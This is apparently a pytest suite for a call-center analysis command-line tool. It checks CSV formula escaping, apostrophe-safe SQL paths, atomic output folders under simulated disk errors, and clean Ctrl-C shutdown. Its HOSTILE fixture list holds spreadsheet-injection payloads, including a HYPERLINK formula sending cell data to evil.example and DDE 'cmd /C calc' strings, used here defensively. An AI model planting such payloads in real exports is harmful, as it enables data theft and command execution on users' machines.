"""Outputs under attack (issue 16): formulas in names, apostrophes in paths, failures late
in a command, output paths that hold a user's files, Ctrl-C on a batch, OS errors.

Every command runs for real on a small synthetic center whose agent ids are hostile
spreadsheet formulas, in folders whose names hold an apostrophe. Failures are injected
(``OSError(ENOSPC)`` / ``OSError(EROFS)`` / ``PermissionError`` raised from a writer by
monkeypatching): the tests run as root, for whom ``chmod`` blocks nothing, and mounting a
full or read-only file system needs privileges a test should not use. The report command
is run with a stand-in for :func:`analysis.report.build.build_report` where a real report
is not needed (a real one takes 30 s and more); its SQL with an apostrophe path is run
for real through :func:`analysis.report.inputs.prepare_inputs`.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml

from analysis.cli import main
from analysis.escape import (
    FORMULA_CHARS,
    neutralize_cell,
    neutralize_frame,
    restore_cell,
    safe_csv,
    sql_quote_path,
)
from analysis.outdir import MARKER

HERE = Path(__file__).resolve().parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
]
NUMBER_LIKE = "-5"  # a plain number written as text: left as it is (see analysis.escape)


# ----------------------------------------------------------------------------- helpers


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text and not any(c.isalpha() for c in text.lower().replace("e", ""))


def _formula_cells(path: Path) -> list[str]:
    """Cells of a CSV that a spreadsheet would run as a formula."""
    bad = []
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            bad += [c for c in row if c and c[0] in FORMULA_CHARS and not _is_plain_number(c)]
    return bad


def _tree(d: Path) -> dict[str, bytes]:
    return {p.relative_to(d).as_posix(): p.read_bytes() for p in sorted(d.rglob("*"))
            if p.is_file()}


def _scratch(parent: Path) -> list[str]:
    return sorted(p.name for p in parent.iterdir() if ".tmp-" in p.name or ".old-" in p.name)


def _one_line_error(err: str, command: str) -> str:
    lines = [ln for ln in err.strip().splitlines() if ln.startswith(f"ccpm {command}:")]
    assert lines, err
    last = lines[-1]
    assert "internal error" not in err and "Traceback" not in err, err
    return last


# ----------------------------------------------------------------------------- escape


def test_neutralize_cell_quotes_every_formula_and_only_those():
    for text in [*HOSTILE, "\t=1", "\r=1", "\n=1", "-cmd", "+A1", "@x", "'=x", "''+x"]:
        out = neutralize_cell(text)
        assert out == "'" + text
        assert restore_cell(out) == text  # exactly undone when ccpm reads it back
    for keep in ["ok", "A0001", "", "'quoted", "x=1", "-5", "+12.5", "-1e3", "-.5"]:
        assert neutralize_cell(keep) == keep
        assert restore_cell(keep) == keep
    for value in [-5, -0.25, float("nan"), None, True]:
        assert neutralize_cell(value) is value


def test_safe_csv_keeps_numbers_and_neutralises_text_and_headers(tmp_path):
    df = pd.DataFrame({"=cmd": ["=1+1", "-5", "ok", None], "n": [-5, -1.5, 0, 2],
                       "cat": pd.Categorical(["@x", "b", "b", "b"])})
    path = tmp_path / "t.csv"
    safe_csv(df, path, index=False)
    assert _formula_cells(path) == []
    back = pd.read_csv(path, dtype={"=cmd": str, "cat": str}, keep_default_na=False)
    assert list(back.columns) == ["'=cmd", "n", "cat"]
    assert back["n"].tolist() == [-5, -1.5, 0, 2]  # negative numbers stay numbers
    assert back["'=cmd"].tolist() == ["'=1+1", "-5", "ok", ""]
    assert back["cat"].tolist() == ["'@x", "b", "b", "b"]
    assert df["=cmd"].tolist()[0] == "=1+1"  # the caller's frame is not changed
    assert neutralize_frame(df).shape == df.shape


def test_safe_csv_takes_object_columns_without_text_or_with_mixed_cells(tmp_path):
    """An object column of numbers only (change points' levels), all missing, or numbers
    mixed with text: the first ended ``ccpm gaming`` in an internal error."""
    df = pd.DataFrame({"empty": pd.Series([None, float("nan")], dtype=object),
                       "numbers": pd.Series([0.0, 0.73], dtype=object),
                       "mixed": pd.Series([1.5, "=HYPERLINK(1)"], dtype=object)})
    path = tmp_path / "t.csv"
    safe_csv(df, path, index=False)
    assert _formula_cells(path) == []
    back = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert back["mixed"].tolist() == ["1.5", "'=HYPERLINK(1)"]
    assert back["empty"].tolist() == ["", ""]
    assert back["numbers"].tolist() == ["0.0", "0.73"]


def test_sql_quote_path_round_trips_through_duckdb(tmp_path):
    import duckdb

    folder = tmp_path / "o'brien's data"
    folder.mkdir()
    src = folder / "x.parquet"
    pd.DataFrame({"a": [1, 2, 3]}).to_parquet(src)
    con = duckdb.connect()
    dest = folder / "copy'd.parquet"
    con.execute(f"COPY (SELECT * FROM read_parquet({sql_quote_path(src)})) "
                f"TO {sql_quote_path(dest)} (FORMAT parquet)")
    assert con.execute("SELECT sum(a) FROM read_parquet(?)", [str(dest)]).fetchone()[0] == 6
    with pytest.raises(ValueError):
        sql_quote_path("a\x00b")


# ----------------------------------------------------------------------------- every command


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    """synth -> validate -> panel -> gaming -> compare, all in folders named with an
    apostrophe, on calls whose agent ids are spreadsheet formulas; the objects gaming and
    compare computed are kept so that reruns (fault tests) skip the statistics."""
    import analysis.compare
    import analysis.gaming

    root = tmp_path_factory.mktemp("safety") / "o'brien's"
    root.mkdir()
    rc = main(["synth", "--out", str(root / "syn"), "--agents", "6", "--days", "8",
               "--seed", "2", "--quiet"])
    assert rc == 0
    calls = pd.read_parquet(root / "syn" / "calls.parquet")
    ids = sorted(calls["agent_id"].dropna().unique())
    rename = dict(zip(ids, [*HOSTILE, NUMBER_LIKE], strict=False))
    calls["agent_id"] = calls["agent_id"].map(lambda a: rename.get(a, a))
    raw = calls.astype({"talk_s": object})
    raw.loc[raw.index[calls["talk_s"].notna()][:3], "talk_s"] = "=cmd|' /C calc'!A0"
    inputs = root / "in'puts"
    inputs.mkdir()
    raw.to_csv(inputs / "=calls'.csv", index=False)  # a hostile file name too
    out = {k: root / f"{k}'out" for k in ("val", "gaming", "compare")}
    kept = {}
    with pytest.MonkeyPatch.context() as mp:
        real_checks, real_compare = analysis.gaming.run_checks, analysis.compare.compare_models

        def keep(name, fn):
            def wrapped(*a, **kw):
                kept[name] = fn(*a, **kw)
                return kept[name]
            return wrapped

        mp.setattr(analysis.gaming, "run_checks", keep("gaming", real_checks))
        mp.setattr(analysis.compare, "compare_models", keep("compare", real_compare))
        assert main(["validate", "--calls", str(inputs / "=calls'.csv"), "--out",
                     str(out["val"]), "--quiet"]) == 0
        valid = out["val"] / "valid.parquet"
        assert main(["panel", "--calls", str(valid), "--out", str(root / "pan'el.parquet")]) == 0
        assert main(["gaming", "--calls", str(valid), "--out", str(out["gaming"]), "--seed",
                     "1", "--option", "bunch_boot=19", "--option", "recip_n_perm=19"]) == 0
        assert main(["compare", "--calls", str(valid), "--flags",
                     str(out["gaming"] / "gaming_flags.csv"), "--n-boot", "10",
                     "--no-figures", "--out", str(out["compare"])]) == 0
    return {"root": root, "out": out, "kept": kept, "rename": rename, "valid": valid,
            "panel": root / "pan'el.parquet"}


def test_every_command_works_with_an_apostrophe_in_its_paths(runs):
    root = runs["root"]
    for d in [root / "syn", *runs["out"].values()]:
        assert (d / "manifest.json").is_file() and (d / MARKER).is_file(), d
        man = json.loads((d / "manifest.json").read_text(encoding="utf-8"))
        assert man["parameters"]["out"] == str(d)  # the path as typed, not the staging one
    assert runs["panel"].is_file() and (root / "pan'el.parquet.manifest.json").is_file()
    assert _scratch(root) == []


def test_no_formula_survives_in_any_csv(runs):
    csvs = [p for d in runs["out"].values() for p in d.rglob("*.csv")]
    names = {p.name for p in csvs}
    assert {"quarantine.csv", "gaming_flags.csv", "scores.csv", "components.csv"} <= names
    for p in csvs:
        assert _formula_cells(p) == [], p
    text = "".join(p.read_text(encoding="utf-8") for p in csvs)
    assert "'=HYPERLINK(" in text and "'@SUM(" in text  # the hostile ids are there, quoted
    quarantine = pd.read_csv(runs["out"]["val"] / "quarantine.csv", dtype=str)
    assert len(quarantine) == 3 and set(quarantine["_source_file"]) == {"'=calls'.csv"}
    assert set(quarantine["talk_s"]) == {"'=cmd|' /C calc'!A0"}
    scores = pd.read_csv(runs["out"]["compare"] / "scores.csv", dtype={"agent_id": str})
    assert NUMBER_LIKE in set(scores["agent_id"])  # a number-like id is kept as it is


def test_flags_read_back_join_the_raw_ids(runs):
    """gaming_flags.csv quotes formula-like ids; compare --flags reads them back exactly."""
    from analysis.compare import read_flags

    flags = read_flags(runs["out"]["gaming"] / "gaming_flags.csv")
    raw = set(runs["rename"].values())
    agents = set(flags["agent_id"].dropna()) - {"center", ""}
    assert agents and agents <= raw | {"center"}
    assert agents & set(HOSTILE)


def test_report_inputs_sql_with_an_apostrophe_path(runs, tmp_path):
    from analysis.report.inputs import prepare_inputs
    from analysis.report.present.quality import coverage_table

    build = tmp_path / "rep'ort" / "build"
    inputs = prepare_inputs(str(runs["valid"]), build_dir=build, period=None)
    assert inputs.calls_path.is_file() and "'" in str(inputs.calls_path)
    assert len(coverage_table(inputs).df) > 0


def test_report_inputs_do_not_collide_with_another_writer(runs, tmp_path):
    """Two processes preparing one build folder at once (a report's notebooks run in
    parallel) each write their own temporary file: a batch run failed on "Could not set
    lock on file calls.parquet.tmp" held by the other notebook's kernel. Another
    writer's temporary file (here one that cannot be written over) neither blocks this
    one nor is left behind by it."""
    from analysis.report.inputs import prepare_inputs

    build = tmp_path / "build"
    (build / "inputs" / "calls.parquet.tmp").mkdir(parents=True)  # the other writer's
    (build / "inputs" / "inputs.json.tmp").mkdir()
    inputs = prepare_inputs(str(runs["valid"]), build_dir=build, period=None)
    assert inputs.calls_path.is_file() and len(pd.read_parquet(inputs.calls_path)) > 0
    left = sorted(x.name for x in (build / "inputs").iterdir() if ".tmp" in x.name)
    assert left == ["calls.parquet.tmp", "inputs.json.tmp"]  # only the other writer's


# ----------------------------------------------------------------------------- complete or absent


def _enospc(*_a, **_kw):
    raise OSError(errno.ENOSPC, "No space left on device", "manifest.json")


@pytest.mark.parametrize("command", ["validate", "gaming", "compare"])
def test_late_failure_keeps_the_previous_complete_folder(runs, command, monkeypatch, capsys):
    """A full disk at the manifest (the last write): the previous output stays as it was,
    nothing of the failed run is mixed in, no temporary folder is left; one line, exit 2."""
    import analysis.compare
    import analysis.gaming
    import analysis.manifest

    out = runs["out"]["val" if command == "validate" else command]
    before = _tree(out)
    monkeypatch.setattr(analysis.gaming, "run_checks", lambda *a, **k: runs["kept"]["gaming"])
    monkeypatch.setattr(analysis.compare, "compare_models",
                        lambda *a, **k: runs["kept"]["compare"])
    monkeypatch.setattr(analysis.manifest, "write_manifest", _enospc)
    argv = {"validate": ["validate", "--calls", str(runs["root"] / "in'puts" / "=calls'.csv"),
                         "--quiet"],
            "gaming": ["gaming", "--calls", str(runs["valid"])],
            "compare": ["compare", "--calls", str(runs["valid"]), "--n-boot", "10",
                        "--no-figures"]}[command]
    capsys.readouterr()
    rc = main([*argv, "--out", str(out)])
    err = capsys.readouterr().err
    assert rc == 2
    assert "no space left" in _one_line_error(err, command)
    assert _tree(out) == before
    assert _scratch(out.parent) == []


def test_compare_failing_after_scores_leaves_old_folder(runs, monkeypatch, capsys):
    """The case of the issue: compare dies after writing scores.csv (in recommend)."""
    import analysis.compare
    import analysis.recommend

    out = runs["out"]["compare"]
    before = _tree(out)
    monkeypatch.setattr(analysis.compare, "compare_models",
                        lambda *a, **k: runs["kept"]["compare"])

    def boom(*_a, **_k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(analysis.recommend, "recommend", boom)
    rc = main(["compare", "--calls", str(runs["valid"]), "--no-figures", "--out", str(out)])
    assert rc == 2
    assert _tree(out) == before and _scratch(out.parent) == []
    capsys.readouterr()


def test_panel_late_failure_keeps_the_previous_file_and_manifest(runs, monkeypatch, capsys):
    import analysis.manifest

    panel = runs["panel"]
    side = panel.with_name(panel.name + ".manifest.json")
    before = (panel.read_bytes(), side.read_bytes())
    monkeypatch.setattr(analysis.manifest, "write_manifest", _enospc)
    rc = main(["panel", "--calls", str(runs["valid"]), "--period", "week", "--out",
               str(panel)])
    assert rc == 2
    assert "no space left" in _one_line_error(capsys.readouterr().err, "panel")
    assert (panel.read_bytes(), side.read_bytes()) == before
    assert _scratch(panel.parent) == []


def fake_report(calls, *, out, fail=False, **_):
    """Stand-in for build_report: a few files, the manifest last; ``fail`` raises a full
    disk after the PDF."""
    from types import SimpleNamespace

    out = Path(out)
    (out / "tables").mkdir(parents=True, exist_ok=True)
    (out / "tables" / "scores.csv").write_text("agent_id\nA1\n")
    (out / "report.pdf").write_bytes(b"%PDF-fake " + str(time.time_ns()).encode())
    if fail or os.environ.get("FAKE_REPORT_FAIL"):
        raise OSError(errno.ENOSPC, "No space left on device", str(out / "report.pptx"))
    (out / "manifest.json").write_text("{}")
    return SimpleNamespace(pdf=out / "report.pdf", deck=None)


def test_report_interrupted_rerun_keeps_the_previous_report(runs, tmp_path, monkeypatch,
                                                             capsys):
    import analysis.report.build

    monkeypatch.setattr(analysis.report.build, "build_report", fake_report)
    out = tmp_path / "rep'ort"
    assert main(["report", "--calls", str(runs["valid"]), "--out", str(out)]) == 0
    assert capsys.readouterr().out.strip() == str(out / "report.pdf")  # the final path
    before = _tree(out)
    monkeypatch.setenv("FAKE_REPORT_FAIL", "1")
    assert main(["report", "--calls", str(runs["valid"]), "--out", str(out)]) == 2
    assert "no space left" in _one_line_error(capsys.readouterr().err, "report")
    assert _tree(out) == before and _scratch(tmp_path) == []
    # Ctrl-C in the middle of a rerun: the same
    monkeypatch.delenv("FAKE_REPORT_FAIL")

    def interrupted(calls, *, out, **_):
        (Path(out) / "report.pdf").write_bytes(b"half")
        raise KeyboardInterrupt

    monkeypatch.setattr(analysis.report.build, "build_report", interrupted)
    assert main(["report", "--calls", str(runs["valid"]), "--out", str(out)]) == 130
    assert _tree(out) == before and _scratch(tmp_path) == []


# ----------------------------------------------------------------------------- foreign files


@pytest.fixture()
def thesis(tmp_path):
    d = tmp_path / "my documents"
    d.mkdir()
    (d / "thesis.docx").write_bytes(b"PK\x03\x04 four years of work")
    return d


def _argv(command: str, runs, out: str) -> list[str]:
    valid = str(runs["valid"])
    return {"synth": ["synth", "--agents", "4", "--days", "3", "--quiet"],
            "validate": ["validate", "--calls", valid],
            "panel": ["panel", "--calls", valid],
            "gaming": ["gaming", "--calls", valid],
            "compare": ["compare", "--calls", valid, "--no-figures"],
            "report": ["report", "--calls", valid]}[command] + ["--out", out]


@pytest.mark.parametrize("command",
                         ["synth", "validate", "panel", "gaming", "compare", "report"])
def test_a_folder_of_user_files_is_refused_and_untouched(runs, thesis, command, capsys,
                                                         monkeypatch):
    import analysis.report.build

    monkeypatch.setattr(analysis.report.build, "build_report", fake_report)
    before = _tree(thesis)
    rc = main(_argv(command, runs, str(thesis)))
    assert rc == 2
    line = _one_line_error(capsys.readouterr().err, command)
    assert "thesis.docx" in line or "is a folder" in line
    assert _tree(thesis) == before and sorted(os.listdir(thesis)) == ["thesis.docx"]
    assert _scratch(thesis.parent) == []


@pytest.mark.parametrize("command", ["synth", "validate", "gaming"])
def test_dot_and_parents_are_refused(runs, tmp_path, command, capsys, monkeypatch):
    work = tmp_path / "project" / "sub"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    for out in (".", "..", str(tmp_path)):
        assert main(_argv(command, runs, out)) == 2
        assert "current folder" in _one_line_error(capsys.readouterr().err, command)
    assert sorted(os.listdir(work)) == []


def test_user_file_put_into_a_ccpm_folder_is_not_deleted(runs, tmp_path, capsys):
    out = tmp_path / "val"
    argv = ["validate", "--calls", str(runs["valid"]), "--quiet", "--out", str(out)]
    assert main(argv) == 0
    (out / "notes.txt").write_text("mine")
    assert main(argv) == 2
    assert "notes.txt" in _one_line_error(capsys.readouterr().err, "validate")
    assert (out / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("command", ["gaming", "compare", "validate", "panel"])
def test_an_output_holding_the_runs_input_is_refused_and_untouched(runs, tmp_path, command,
                                                                   capsys):
    """``ccpm gaming --calls out/valid.parquet --out out`` replaced the folder and with it
    the validated calls and their quarantine (the only record of the bad rows)."""
    out = tmp_path / "val"
    assert main(["validate", "--calls", str(runs["valid"]), "--quiet", "--out", str(out)]) == 0
    before = _tree(out)
    # panel writes one file: it may sit beside its input, not replace it
    target = str(out / "valid.parquet") if command == "panel" else str(out)
    argv = [command, "--calls", str(out / "valid.parquet"), "--out", target]
    assert main(argv) == 2
    assert "holds this run's input" in _one_line_error(capsys.readouterr().err, command)
    assert _tree(out) == before


def test_batch_refuses_a_job_whose_output_holds_its_calls(runs, tmp_path, capsys):
    out = tmp_path / "batch" / "a"
    assert main(["validate", "--calls", str(runs["valid"]), "--quiet", "--out", str(out)]) == 0
    before = _tree(out)
    sched = _schedule(tmp_path, out / "valid.parquet", {"a": str(out)})
    assert main(["batch", str(sched), "--workers", "1", "--no-progress"]) == 2
    assert "holds this run's input" in capsys.readouterr().err
    assert _tree(out) == before


def test_a_file_edited_after_ccpm_wrote_it_is_not_replaced(runs, tmp_path, capsys):
    """A corrected row in gaming_agents.csv was discarded without a word by the next run."""
    out = tmp_path / "val"
    argv = ["validate", "--calls", str(runs["valid"]), "--quiet", "--out", str(out)]
    assert main(argv) == 0
    assert main(argv) == 0  # an untouched output is replaced as before
    with open(out / "quarantine.csv", "a", encoding="utf-8") as fh:
        fh.write("my note\n")
    before = _tree(out)
    assert main(argv) == 2
    assert "quarantine.csv was changed" in _one_line_error(capsys.readouterr().err, "validate")
    assert _tree(out) == before


def test_a_second_run_into_an_output_being_written_is_refused(runs, tmp_path, capsys):
    """Two runs into one output each moved theirs into place, the last silently replacing
    the first: a run refuses while another live process on this host writes the same
    output (its temporary folder beside it); once that process is gone, its folder is
    cleaned up and the run goes ahead."""
    from analysis.outdir import other_writers, scratch_path

    out = tmp_path / "val"
    argv = ["validate", "--calls", str(runs["valid"]), "--quiet", "--out", str(out)]
    assert main(argv) == 0
    before = _tree(out)
    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        busy = scratch_path(out, "tmp", pid=other.pid)
        busy.mkdir()
        (busy / "partial.parquet").write_bytes(b"half")
        assert other_writers(out) == [other.pid]
        assert main(argv) == 2
        msg = _one_line_error(capsys.readouterr().err, "validate")
        assert f"another ccpm run (process {other.pid}) is writing this output" in msg
        assert _tree(out) == before and (busy / "partial.parquet").read_bytes() == b"half"
        assert _scratch(tmp_path) == [busy.name]  # the refused run left nothing of its own
        # a single-file output (ccpm panel) is guarded the same way
        panel = tmp_path / "panel.parquet"
        scratch_path(panel, "tmp", pid=other.pid).mkdir()
        assert main(["panel", "--calls", str(runs["valid"]), "--out", str(panel)]) == 2
        assert "another ccpm run" in _one_line_error(capsys.readouterr().err, "panel")
        assert not panel.exists()
    finally:
        other.kill()
        other.wait()
    assert other_writers(out) == []
    assert main(argv) == 0
    assert not busy.exists()


def test_panel_refuses_to_overwrite_a_file_it_did_not_write(runs, thesis, capsys):
    target = thesis / "thesis.docx"
    assert main(["panel", "--calls", str(runs["valid"]), "--out", str(target)]) == 2
    assert "not written by ccpm" in _one_line_error(capsys.readouterr().err, "panel")
    assert target.read_bytes().startswith(b"PK")


def _schedule(tmp_path: Path, calls: Path, outs: dict[str, str], **extra) -> Path:
    sched = tmp_path / "sched" / "schedule.yml"
    sched.parent.mkdir(exist_ok=True)
    jobs = [{"name": n, "out": o, "calls": str(calls), **extra} for n, o in outs.items()]
    sched.write_text(yaml.safe_dump({"out_root": str(tmp_path / "batch"), "jobs": jobs}))
    return sched


@pytest.mark.parametrize("out", ["thesis", ".", "/", "..", "nested"])
def test_batch_refuses_outputs_it_could_wrongly_delete(runs, thesis, tmp_path, out, capsys):
    if out == "thesis":
        out = str(thesis)
    outs = {"a": out}
    if out == "nested":
        outs = {"a": "nested", "b": "nested/inner"}
    (tmp_path / "batch").mkdir(exist_ok=True)
    (tmp_path / "batch" / "keep.txt").write_text("mine")
    before = _tree(tmp_path / "batch"), _tree(thesis)
    sched = _schedule(tmp_path, runs["valid"], outs)
    rc = main(["batch", str(sched), "--workers", "1", "--no-progress"])
    assert rc == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "error:" in err, err
    assert (_tree(tmp_path / "batch"), _tree(thesis)) == before


# ----------------------------------------------------------------------------- Ctrl-C


def blocking_build(calls, *, out, progress, **_):
    """Batch stand-in: note this worker's pid, then run a child process (as a render
    engine would) that never ends by itself."""
    marks = Path(os.environ["FAKE_MARKS"])
    (Path(out) / "report.pdf").write_bytes(b"%PDF-partial")
    (marks / f"{os.getpid()}.pid").write_text(str(os.getpid()))
    subprocess.run([sys.executable, "-c", "import time; time.sleep(600)"], check=False)


def _descendants(pid: int) -> set[int]:
    """Every living descendant of ``pid`` (from /proc)."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            stat = Path(f"/proc/{entry}/stat").read_text()
        except OSError:
            continue
        fields = stat.rsplit(")", 1)[1].split()
        if fields[0] == "Z":
            continue
        children.setdefault(int(fields[1]), []).append(int(entry))
    found, todo = set(), [pid]
    while todo:
        for c in children.get(todo.pop(), []):
            if c not in found:
                found.add(c)
                todo.append(c)
    return found


def _alive(pid: int) -> bool:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return False
    return stat.rsplit(")", 1)[1].split()[0] != "Z"


def test_interrupting_a_batch_ends_every_child(runs, tmp_path):
    """SIGINT (Ctrl-C) sent to the batch process alone (not its group, the harder case: a
    terminal sends it to the whole group): the workers, what they started and
    multiprocessing's resource tracker all end; no temporary folder stays. (SIGTERM takes
    the same path, through a handler that raises KeyboardInterrupt.)"""
    sig = signal.SIGINT
    marks = tmp_path / "marks"
    marks.mkdir()
    sched = _schedule(tmp_path, runs["valid"], {"a": "a", "b": "b", "c": "c"})
    # three different analyses (seeds), so that none waits to reuse another's results
    doc = yaml.safe_load(sched.read_text())
    for i, job in enumerate(doc["jobs"]):
        job["seed"] = i
    sched.write_text(yaml.safe_dump(doc))
    env = {**os.environ, "CCPM_BATCH_TEST_BUILDER": "test_output_safety:blocking_build",
           "FAKE_MARKS": str(marks),
           "PYTHONPATH": os.pathsep.join(filter(None, [str(HERE),
                                                       os.environ.get("PYTHONPATH")]))}
    # A test runner started in the background (``make test &``) has SIGINT ignored, and an
    # ignored signal stays ignored across exec: the batch would then rightly ignore the
    # Ctrl-C too (nohup semantics) and this test hang. A handler installed here does not
    # survive exec, so the child starts with SIGINT at its default, as from a terminal.
    ignored = signal.getsignal(signal.SIGINT) == signal.SIG_IGN
    if ignored:
        signal.signal(signal.SIGINT, signal.default_int_handler)
    try:
        proc = subprocess.Popen([sys.executable, "-m", "analysis", "batch", str(sched),
                                 "--workers", "2", "--no-progress"], env=env,
                                start_new_session=True, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE, text=True)
    finally:
        if ignored:
            signal.signal(signal.SIGINT, signal.SIG_IGN)
    try:
        t0 = time.monotonic()
        while len(list(marks.glob("*.pid"))) < 2:
            assert proc.poll() is None, proc.communicate()
            assert time.monotonic() - t0 < 120, "workers did not start"
            time.sleep(0.05)
        workers = {int(p.stem) for p in marks.glob("*.pid")}
        # 2 workers, each with a child of its own (the sleeper), and the resource tracker
        while len(_descendants(proc.pid)) < 5 and time.monotonic() - t0 < 120:
            time.sleep(0.05)
        family = _descendants(proc.pid)
        assert workers <= family and len(family) >= 5, family
        tracker = family - workers - {c for w in workers for c in _descendants(w)}
        assert len(tracker) == 1  # multiprocessing's resource tracker
        os.kill(proc.pid, sig)
        _out, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    assert proc.returncode == 130, err
    assert "interrupted" in err
    t0 = time.monotonic()
    while any(_alive(p) for p in family) and time.monotonic() - t0 < 15:
        time.sleep(0.05)
    assert [p for p in family if _alive(p)] == []
    assert _scratch(tmp_path / "batch") == []
    assert not any((tmp_path / "batch" / j).exists() for j in "abc")


# ----------------------------------------------------------------------------- OS errors


@pytest.mark.parametrize("exc,words", [
    (OSError(errno.EROFS, "Read-only file system"), "read-only file system"),
    (PermissionError(errno.EACCES, "Permission denied"), "permission denied"),
    (OSError(errno.ENOSPC, "No space left on device"), "no space left"),
])
def test_os_errors_are_one_line_exit_2(runs, tmp_path, monkeypatch, capsys, exc, words):
    """A read-only or unwritable output folder (simulated: the first folder ccpm creates
    raises the error the kernel would give), a full disk: one line, exit 2, not an
    internal error."""
    real_mkdir = Path.mkdir
    target = tmp_path / "ro"

    def mkdir(self, *a, **k):
        if str(self).startswith(str(target)):
            exc.filename = str(self)
            raise exc
        return real_mkdir(self, *a, **k)

    monkeypatch.setattr(Path, "mkdir", mkdir)
    for command in ("validate", "gaming", "synth"):
        rc = main(_argv(command, runs, str(target / "out")))
        line = _one_line_error(capsys.readouterr().err, command)
        assert rc == 2 and words in line and str(target) in line, line


def test_an_output_of_an_older_ccpm_is_replaced_but_not_with_user_files(runs, tmp_path,
                                                                          capsys):
    """A folder written before the marker existed counts as ccpm's when its manifest
    accounts for every file in it; one file more (the user's) and it is refused."""
    old = tmp_path / "old"
    old.mkdir()
    (old / "manifest.json").write_text(json.dumps(
        {"ccpm_version": "0.1", "outputs": [{"file": "valid.parquet"}]}))
    (old / "valid.parquet").write_bytes(b"PAR1")
    (old / "thesis.docx").write_bytes(b"PK")
    argv = ["validate", "--calls", str(runs["valid"]), "--quiet", "--out", str(old)]
    assert main(argv) == 2
    assert "thesis.docx" in _one_line_error(capsys.readouterr().err, "validate")
    assert (old / "thesis.docx").read_bytes() == b"PK"
    (old / "thesis.docx").unlink()
    assert main(argv) == 0
    assert (old / MARKER).is_file() and (old / "quarantine.csv").is_file()


def test_duckdb_io_errors_are_one_line_exit_2(runs, tmp_path, monkeypatch, capsys):
    import duckdb

    import analysis.gaming

    def full(*_a, **_k):
        raise duckdb.IOException("IO Error: Could not write file \"x.parquet\": "
                                 "No space left on device")

    monkeypatch.setattr(analysis.gaming, "run_checks", full)
    assert main(_argv("gaming", runs, str(tmp_path / "g"))) == 2
    assert "No space left" in _one_line_error(capsys.readouterr().err, "gaming")
    assert not (tmp_path / "g").exists() and _scratch(tmp_path) == []


def test_batch_with_an_apostrophe_in_its_paths(runs, tmp_path, monkeypatch, capsys):
    """A batch (in-process, stand-in report) whose output root and input hold an
    apostrophe: built, marked, stamped; the re-run skips it."""
    from analysis.batch import STAMP

    monkeypatch.setenv("CCPM_BATCH_TEST_BUILDER", "test_output_safety:fake_report")
    root = tmp_path / "o'neil"
    root.mkdir()
    sched = _schedule(root, runs["valid"], {"a": "ja'ne"})
    argv = ["batch", str(sched), "--workers", "1", "--no-progress"]
    assert main(argv) == 0, capsys.readouterr().err
    out = root / "batch" / "ja'ne"
    assert {"report.pdf", MARKER, STAMP} <= set(os.listdir(out))
    capsys.readouterr()
    assert main(argv) == 0
    assert capsys.readouterr().out.startswith("skipped")


def test_every_csv_writer_goes_through_safe_csv():
    """No module writes a CSV or Excel file past :func:`analysis.escape.safe_csv` (a new
    writer must use it). ``synth`` is the one exception: it writes ccpm's own generated
    ids, as inputs for ccpm, not as a report."""
    import re

    from analysis.config import PACKAGE_DIR

    allowed = {"escape.py", "synth/__init__.py"}
    raw = []
    for path in sorted(PACKAGE_DIR.rglob("*.py")):
        rel = path.relative_to(PACKAGE_DIR).as_posix()
        if rel in allowed:
            continue
        for i, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            if re.search(r"\.to_csv\(|\.to_excel\(|ExcelWriter|csv\.writer\(|csv\.DictWriter\(",
                         code):
                raw.append(f"{rel}:{i}: {line.strip()}")
    assert raw == []
